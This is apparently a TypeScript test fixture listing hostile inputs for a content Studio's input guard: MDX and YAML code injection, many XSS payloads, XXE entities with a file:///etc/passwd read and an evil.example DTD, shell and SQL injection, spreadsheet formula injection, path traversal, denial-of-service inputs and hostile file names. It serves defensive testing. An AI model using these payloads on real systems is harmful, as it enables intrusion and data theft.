import { harmless, refused } from '#tests/content/hostile-texts.ts'

/** A text as somebody would send it who wants to run something on the server, or in another person's browser. */
export interface Hostile {
  name: string
  text: string
}

/** What each payload would do if it ran, in whatever runs it: the server's process or a page. */
export const PWN = 'globalThis.__pwned=1'
/** A host that no page of ours has any business with. */
export const FOREIGN = 'evil.example'

const run = `(${PWN})`
const svg = (inner: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"${more}><title>x</title>${inner}</svg>`

const code: [string, string][] = [
  ['front matter in JavaScript', `---js\n{ title: ${run} }\n---\n\nx`],
  ['front matter in CoffeeScript', `---coffee\n${PWN}\n---\n\nx`],
  ['a YAML tag that makes a function', `---\ntitle: !!js/function "function(){${PWN}}"\n---\n\nx`],
  [
    'a YAML merge into the prototype',
    '---\n__proto__: { pwned: 1 }\n<<: { constructor: 1 }\ntitle: x\n---\n\nx',
  ],
  [
    'YAML aliases that grow',
    `---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n---\n\nx`,
  ],
  ['an alias of itself', '---\na: &a [*a]\ntitle: x\n---\n\nx'],
  ['an expression that ends the process', '{process.exit(1)}'],
  ['an expression', `{${PWN}}`],
  ['an expression in a line', `text {${PWN}} text`],
  ['a constructor’s constructor', `{[].constructor.constructor('${PWN}')()}`],
  ['a template', '{`${globalThis.__pwned=1}`} ${globalThis.__pwned=1} #{globalThis.__pwned=1}'],
  [
    'a template of other machines',
    '{{constructor.constructor("globalThis.__pwned=1")()}} <%= globalThis.__pwned=1 %>',
  ],
  ['an import', `import x from 'data:text/javascript,${PWN}'`],
  ['an export', `export const x = ${run}`],
  ['an import behind text', `x\n\nimport 'node:child_process'\n\nexport default () => ${run}`],
  ['spread attributes', `<Note {...${run}}>\n\nx\n\n</Note>`],
  ['an attribute that computes', `<Figure src={${run}} alt="x" />`],
  ['a comment of MDX', `{/* */ ${PWN} /* */}`],
]

const html: [string, string][] = [
  ['a script', `<script>${PWN}</script>`],
  ['a script of upper case', `<SCRIPT SRC=//${FOREIGN}/x.js></SCRIPT>`],
  ['a script that ends ours', `</script><script>${PWN}</script>`],
  ['a script in two halves', `<scr<script>ipt>${PWN}</scr</script>ipt>`],
  ['the end of a title', `</title><script>${PWN}</script>`],
  ['the end of a field', `</textarea><img src=x onerror=${PWN}>`],
  ['the end of a value', `"><img src=x onerror=${PWN}>`],
  ['the end of a value in single quotes', `'><img src=x onerror='${PWN}'>`],
  ['an attribute behind a value', `x" autofocus onfocus="${PWN}" x="`],
  ['the end of an option', `</option></select><svg onload=${PWN}>`],
  ['a comment that opens', `<!--<script>${PWN}</script>`],
  ['a comment that ends', `--><script>${PWN}</script>`],
  ['a section of CDATA', `]]><script>${PWN}</script><![CDATA[`],
  ['a picture that fails', `<img src=x onerror=${PWN}>`],
  ['a picture of slashes', `<img/src="x"/onerror=${PWN}//`],
  ['a drawing', `<svg onload=${PWN}>`],
  ['a drawing with a script', svg(`<script>${PWN}</script>`)],
  ['a drawing with a script far away', svg(`<script xlink:href="https://${FOREIGN}/x.js"/>`)],
  [
    'a drawing with a page',
    svg(
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${PWN}"/></foreignObject>`,
    ),
  ],
  [
    'a drawing that uses another',
    svg(`<use href="https://${FOREIGN}/x.svg#a"/><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>`),
  ],
  [
    'a drawing with a picture far away',
    svg(`<image href="https://${FOREIGN}/x.png"/><image xlink:href="//${FOREIGN}/y.png"/>`),
  ],
  [
    'a drawing with a style far away',
    svg(
      `<style>@import url(https://${FOREIGN}/x.css);rect{fill:url(https://${FOREIGN}/f)}</style><rect width="3" height="3"/>`,
    ),
  ],
  [
    'a drawing that sets a link',
    svg(
      `<a><set attributeName="href" to="javascript:${PWN}"/><animate attributeName="xlink:href" values="javascript:${PWN}"/><text y="5">x</text></a>`,
    ),
  ],
  ['a drawing with a link', svg(`<a href="javascript:${PWN}"><text y="5">x</text></a>`)],
  [
    'a drawing with handlers',
    svg(`<rect width="3" height="3" onclick="${PWN}" onbegin="${PWN}"/>`, ` onload="${PWN}"`),
  ],
  [
    'a drawing with a style sheet of its own',
    `<?xml-stylesheet href="https://${FOREIGN}/x.xsl" type="text/xsl"?>${svg('')}`,
  ],
  [
    'a drawing of another name',
    `<x:svg xmlns:x="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><x:script>${PWN}</x:script></x:svg>`,
  ],
  ['a drawing with entities', `<!DOCTYPE svg [<!ENTITY x "<script>${PWN}</script>">]>${svg('&x;')}`],
  [
    'formulas that break out',
    `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}></style></mglyph></table></mtext></math>`,
  ],
  [
    'a formula with a link',
    `<math href="javascript:${PWN}"><maction actiontype="statusline" xlink:href="javascript:${PWN}">x</maction></math>`,
  ],
  ['a frame of its own page', `<iframe srcdoc="<script>${PWN}</script>"></iframe>`],
  ['a frame of a scheme', `<iframe src="javascript:${PWN}"></iframe>`],
  [
    'an object',
    `<object data="data:text/html,<script>${PWN}</script>"></object><embed src="//${FOREIGN}/x">`,
  ],
  ['another base', `<base href="https://${FOREIGN}/">`],
  ['a page that goes elsewhere', `<meta http-equiv="refresh" content="0;url=https://${FOREIGN}/">`],
  ['a style', `<style>@import "https://${FOREIGN}/x.css";*{background:url(//${FOREIGN}/b)}</style>`],
  ['a style of an element', `<p style="background:url(https://${FOREIGN}/b);position:fixed;inset:0">x</p>`],
  ['a link to a style', `<link rel=stylesheet href="https://${FOREIGN}/x.css">`],
  [
    'a form',
    `<form action="https://${FOREIGN}/"><input name=password><button formaction="javascript:${PWN}">x</button></form>`,
  ],
  ['a details that opens', `<details open ontoggle=${PWN}>x</details>`],
  ['a video', `<video><source onerror=${PWN}></video><audio src=x onerror=${PWN}>`],
  ['an animation', `<p style="animation:x" onanimationstart=${PWN}>x</p><marquee onstart=${PWN}>`],
  ['a template with a shadow', `<template shadowrootmode="open"><script>${PWN}</script></template>`],
  ['no script', `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`],
  ['plain text without an end', '<plaintext><xmp><listing>'],
  ['entities of markup', `&lt;script&gt;${PWN}&lt;/script&gt; &#60;img src=x onerror=${PWN}&#62;`],
  [
    'letters that fold to markup',
    `＜script＞${PWN}＜/script＞ ‹img onerror=${PWN}› \u02ba>\u3008script\u3009`,
  ],
  ['UTF-7', `+ADw-script+AD4-${PWN}+ADw-/script+AD4-`],
  ['bytes of another charset', `\u001b$B<script>${PWN}</script>\u001b(B`],
]

const links: [string, string][] = [
  ['a link to a script', `[x](javascript:${PWN})`],
  [
    'a link with a control character',
    `[x](&#1;javascript:${PWN}) [y](java&#9;script:${PWN}) [z](java&#10;script:${PWN})`,
  ],
  ['a link of entities', `[x](&#x6A&#x61&#x76&#x61script&colon;${PWN})`],
  ['a link by reference', `[x][a] ![y][a]\n\n[a]: <javascript:${PWN}> "t"`],
  ['a link of mixed case', `[x](jAvAsCrIpT:${PWN}) [y](VBSCRIPT:x) [z](DATA:text/html;base64,PHNjcmlwdD4=)`],
  ['a link to data', `[x](data:text/html,<script>${PWN}</script>)`],
  ['a link to Visual Basic', '[x](vbscript:MsgBox(1))'],
  [
    'a link to the view of a source',
    `[x](view-source:javascript:${PWN}) [y](feed:javascript:${PWN}) [z](blob:null/x)`,
  ],
  ['a link without a scheme', `[x](//${FOREIGN}/) [y](\\\\${FOREIGN}\\x) [z](/\\${FOREIGN})`],
  ['a link with somebody in it', `[x](https://stats.example@${FOREIGN}/)`],
  [
    'a link with quotes',
    `[x](https://example.org/"onclick="${PWN}) [y](https://example.org/ "t\\" onclick=\\"${PWN}")`,
  ],
  ['a link to letters', `[x](mailto:a@b.example?body=%0D%0ABcc:x@${FOREIGN})`],
  ['an autolink', `<javascript:${PWN}> <https://${FOREIGN}/"onclick="${PWN}">`],
  ['a bare address', `https://${FOREIGN}/<script>${PWN}</script> www.${FOREIGN}`],
  ['a picture far away', `![x](https://${FOREIGN}/x.png) ![y](//${FOREIGN}/y.png)`],
  ['a picture that is a script', `![x](javascript:${PWN}) <Figure src="javascript:${PWN}" alt="x" />`],
  [
    'a picture of the machine',
    '<Figure src="../../etc/passwd" alt="x" />\n\n<Figure src="/proc/self/environ" alt="x" />',
  ],
  ['a picture that is data', `<Figure src="data:image/svg+xml,<svg onload=${PWN}>" alt="x" />`],
  ['a title that ends', `[x](https://example.org '"><img src=x onerror=${PWN}>')`],
]

const markdown: [string, string][] = [
  ['markup in a heading', `## <img src=x onerror=${PWN}>\n\n## \`<script>${PWN}</script>\``],
  ['markup in a table', `| a | b |\n|---|---|\n| <script>${PWN}</script> | [x](javascript:${PWN}) |`],
  ['markup in a footnote', `a[^1]\n\n[^1]: <img src=x onerror=${PWN}> [x](javascript:${PWN})`],
  ['a footnote named by markup', `a[^"><script>${PWN}</script>]\n\n[^"><script>${PWN}</script>]: x`],
  [
    'a fence named by markup',
    `\`\`\`"><script>${PWN}</script>\n</code></pre><script>${PWN}</script>\n\`\`\``,
  ],
  [
    'a fence of keys',
    "```sql key\nATTACH DATABASE '/tmp/jalon-pwned' AS x; SELECT load_extension('/tmp/x');\n```",
  ],
  ['unknown tags', `<Script src="x" /><Evil onclick="${PWN}" /><constructor /><__proto__ /><toString />`],
  [
    'a tag of ours with a handler',
    `<Note kind="data" onclick="${PWN}" style="x" dangerouslySetInnerHTML="x">\n\nx\n\n</Note>`,
  ],
  [
    'our own inner tags',
    `<jalon-part n="0">x</jalon-part><jalon-formula n="0"></jalon-formula></jalon-part>`,
  ],
  ['a formula with a link', `$\\href{javascript:${PWN}}{x} \\url{javascript:${PWN}}$`],
  ['a formula with a picture', `$\\includegraphics{https://${FOREIGN}/x.png}$`],
  [
    'a formula with markup',
    `$\\text{<img src=x onerror=${PWN}>} \\htmlData{onclick=${PWN}}{x} \\class{x" onclick="${PWN}}{x}$`,
  ],
  ['a formula that grows', '$\\def\\a{\\a\\a}\\a \\edef\\x{\\x\\x}\\x$'],
  [
    'a formula of styles',
    `$\\style{background:url(//${FOREIGN})}{x} \\color{red;background:url(//${FOREIGN})}{x}$`,
  ],
  ['a term of the prototype', '<Term id="__proto__">x</Term> <Term id="constructor">y</Term>'],
  [
    'exercises of the prototype',
    '<Choice id="constructor">\nx\n\n- [x] a\n- [ ] b\n</Choice>\n\n<Choice id="hasownproperty">\nx\n\n- [x] a\n- [ ] b\n</Choice>',
  ],
  ['headings of the prototype', '## __proto__\n\n## constructor\n\n## toString'],
  ['ids that hide a form’s own', '<Choice id="location">\nx\n\n- [x] a\n- [ ] b\n</Choice>'],
  ['a style in a value', `x; } * { background: url(//${FOREIGN}) } /* "expression(${PWN})" */`],
]

const letters: [string, string][] = [
  ['a text that turns round', `\u202e${PWN}<script>\u202c \u2066x\u2069 \u200f\u061c`],
  ['a NUL', `a\0b<\0script>${PWN}</\0script>`],
  ['lone halves of letters', `a\ud800b\udfff<script\udc00>${PWN}</script>`],
  ['letters that no page may hold', 'a\u0001module\u0001b\ufffe\uffff\u0008\u000b\u007f\u0085'],
  ['the mark of bytes, twice', '\ufeff\ufeff# x'],
  ['lines of other kinds', `a\u2028${PWN}\u2029b\rc\r\nd\u0085e`],
  ['accents without end', `Z${'\u0301\u0327'.repeat(3000)}`],
  ['nothing but spaces', ' \t\u00a0\u3000 '],
  ['the line of a cookie', `x\r\nSet-Cookie: a=b\r\n\r\n<script>${PWN}</script>`],
  ['a pattern', '(a+)+$ .* \\1 [^ (?=x) $& $1 $` %s %00 %n {0} \\u0000 \\x3cscript\\x3e'],
  ['a letter of a database', `'; DROP TABLE person; -- " OR 1=1 /* \\' % _`],
  ['a path', '../../../../etc/passwd'],
  ['a path of another system', '..\\..\\windows\\system32\\con.mdx C:\\x \\\\host\\share'],
  ['a command', `$(touch /tmp/jalon-pwned) \`touch /tmp/jalon-pwned\`; touch /tmp/jalon-pwned | x && y`],
  ['the prototype', '__proto__'],
  ['the constructor', 'constructor'],
  ['a name of the prototype in JSON', '{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}'],
  ['a formula of a sheet', `=HYPERLINK("https://${FOREIGN}/?"&A1,"x")`],
  ['formulas of sheets', `+1+1\n-1+cmd|' /C calc'!A0\n@SUM(1+1)*cmd|' /C calc'!A0\n\t=1+1\n\r=1+1`],
]

const long: [string, string][] = [
  ['quotes in quotes', '>'.repeat(200_000)],
  [
    'lists in lists',
    Array.from({ length: 2000 }, (_, depth) => `${' '.repeat(Math.min(depth, 90))}- x`).join('\n'),
  ],
  ['brackets in brackets', `${'['.repeat(40_000)}x${']'.repeat(40_000)}`],
  ['links that never end', '[a]('.repeat(30_000)],
  ['stars', '*a_ **b __'.repeat(15_000)],
  ['ticks', '`a``b```'.repeat(15_000)],
  ['ampersands', '&'.repeat(100_000)],
  ['one long line', `${'word '.repeat(35_000)}`],
  ['one long word', 'a'.repeat(190_000)],
  ['many tags', '<Note kind="data">\n\n'.repeat(5_000)],
  ['many lines that are wrong', '[x](javascript:y)\n\n'.repeat(9_000)],
  ['many tables', `${'|a'.repeat(2_000)}|\n${'|-'.repeat(2_000)}|\n${`${'|b'.repeat(2_000)}|\n`.repeat(30)}`],
  ['many footnotes', Array.from({ length: 4_000 }, (_, note) => `a[^${note}]`).join(' ')],
  ['spaces before a tick', `${' '.repeat(90_000)}x\n`.repeat(2)],
  ['attributes without end', `<Note ${'a="b" '.repeat(20_000)}>`],
  ['braces', '{'.repeat(100_000)],
  ['formulas', '$x$ '.repeat(20_000)],
]

const files: [string, string][] = [
  [
    'an entity bomb',
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><quiz>&d;</quiz>`,
  ],
  [
    'an entity of the machine',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://evil.example/x.dtd">%b;]><quiz>&a;</quiz>',
  ],
  [
    'a quiz of Moodle',
    `<?xml version="1.0"?><quiz><question type="multichoice"><name><text>"><script>${PWN}</script></text></name><questiontext format="html"><text><![CDATA[<img src=x onerror=${PWN}><a href="javascript:${PWN}">x</a><iframe srcdoc="<script>${PWN}</script>"></iframe>]]></text><file name="../../x.svg" path="/../" encoding="base64">${Buffer.from(svg(`<script>${PWN}</script>`)).toString('base64')}</file></questiontext><generalfeedback format="html"><text><![CDATA[<svg onload=${PWN}>]]></text></generalfeedback><answer fraction="100"><text><![CDATA[<script>${PWN}</script>yes]]></text><feedback><text><![CDATA[<b onclick=${PWN}>ok</b>]]></text></feedback></answer><answer fraction="0"><text>{${PWN}}</text></answer></question><question type="calculated"><name><text>x</text></name><questiontext><text>{={process.exit(1)}}</text></questiontext></question></quiz>`,
  ],
  [
    'a quiz of GIFT',
    `::<script>${PWN}</script>:: [html]<img src=x onerror=${PWN}> {${PWN}} {\n=<b onclick\\=${PWN}>a</b>#<svg onload\\=${PWN}>\n~\\{process.exit(1)\\}\n}\n\n$CATEGORY: ../../<script>${PWN}</script>\n`,
  ],
  [
    'a quiz of Aiken',
    `<script>${PWN}</script> {${PWN}}?\nA. <img src=x onerror=${PWN}>\nB. [x](javascript:${PWN})\nANSWER: A\n`,
  ],
  [
    'a table of questions',
    `id,question,a,b,right\n"<script>${PWN}</script>","{${PWN}}","=cmd|' /C calc'!A0","[x](javascript:${PWN})",a\n`,
  ],
  [
    'an XLIFF',
    `<?xml version="1.0"?><xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en" trgLang="fr"><file id="f"><unit id="../../x" name="&lt;script&gt;"><segment><source><![CDATA[<script>${PWN}</script>]]></source><target>&lt;img src=x onerror=${PWN}&gt; {${PWN}}</target></segment></unit></file></xliff>`,
  ],
  ['a page', `<!DOCTYPE html><html><body onload=${PWN}><script>${PWN}</script></body></html>`],
  ['a page after the head of a PDF', `%PDF-1.4\n<script>${PWN}</script>`],
  ['a page after the head of a GIF', `GIF89a/*<script>${PWN}</script>*/=${PWN}`],
  ['no more than the head of a zip', 'PK\u0003\u0004\u0014\u0000\u0000\u0000'],
]

const listed = [...code, ...html, ...links, ...markdown, ...letters, ...long, ...files].map(
  ([name, text]): Hostile => ({ name, text }),
)

/** The one list: what the Studio's doors are tried with, and what the guard's own tests know of. */
export const corpus: Hostile[] = [
  ...listed,
  ...[...refused, ...harmless].map(
    ([text]): Hostile => ({ name: `as the guard knows it: ${text.slice(0, 60)}`, text }),
  ),
]

/** Those that a person could type into one line of a form. */
export const short: Hostile[] = corpus.filter(({ text }) => text.length <= 2_000)

/** Names of files as they come from disks and archives, good for nothing but harm. */
export const hostileNames: Hostile[] = [
  '../../etc/passwd.svg',
  '/etc/passwd.svg',
  '..\\..\\x.svg',
  'C:\\x.svg',
  'a/../../b.svg',
  './x.svg',
  'a//b.svg',
  'x.svg\0.png',
  'con.svg',
  'nul.mdx',
  'x.svg ',
  'x.svg.',
  '.htaccess',
  '.svg',
  '__proto__.svg',
  'constructor.svg',
  '__proto__/en.mdx',
  'constructor/en.mdx',
  'x.svg::$DATA',
  'x\r\nSet-Cookie: a=b.svg',
  '\u202egvs.exe.svg',
  'x\ud800.svg',
  `"><img src=x onerror=${PWN}>.svg`,
  `<script>${PWN}</script>.svg`,
  `x" onload="${PWN}.svg`,
  `javascript:${PWN}.svg`,
  '=cmd.svg',
  '%2e%2e%2fx.svg',
  '$(touch /tmp/jalon-pwned).svg',
  'x.html',
  'x.php.svg',
  'x.svg.js',
  `${'a'.repeat(5_000)}.svg`,
  `${'a/'.repeat(500)}x.svg`,
  'en.mdx',
  'course.yaml',
  'keys.json',
  'en.blocks.yaml',
].map((text) => ({ name: text.slice(0, 60), text }))
